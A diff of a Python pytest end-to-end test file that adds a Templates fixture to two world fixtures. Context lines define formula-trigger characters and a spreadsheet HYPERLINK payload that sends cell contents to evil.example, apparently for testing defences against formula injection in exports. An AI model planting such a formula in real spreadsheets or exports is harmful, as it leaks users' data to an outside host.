@@ -17,6 +17,7 @@ import pytest
 from config.load import load_configuration
 from rules.declared.programme import Programme
 from tests.end_to_end.world import DELIVERY, FORUM, GROUPS, PLAN, RESULTS, World, small_world
+from tests.templates import Templates
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "'=")
 PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"กดที่นี่")'
@@ -36,16 +37,16 @@ COMMANDS = (
 
 
 @pytest.fixture
-def world(tmp_path: Path) -> Iterator[World]:
+def world(templates: Templates, tmp_path: Path) -> Iterator[World]:
     """Two provinces."""
-    with small_world(tmp_path, ("50", "83")) as made:
+    with small_world(templates, tmp_path, ("50", "83")) as made:
         yield made
 
 
 @pytest.fixture(scope="module")
-def kept_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+def kept_world(templates: Templates, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
     """Two provinces, for tests that put back what they change."""
-    with small_world(tmp_path_factory.mktemp("kept"), ("50", "83")) as made:
+    with small_world(templates, tmp_path_factory.mktemp("kept"), ("50", "83")) as made:
         yield made
 
 
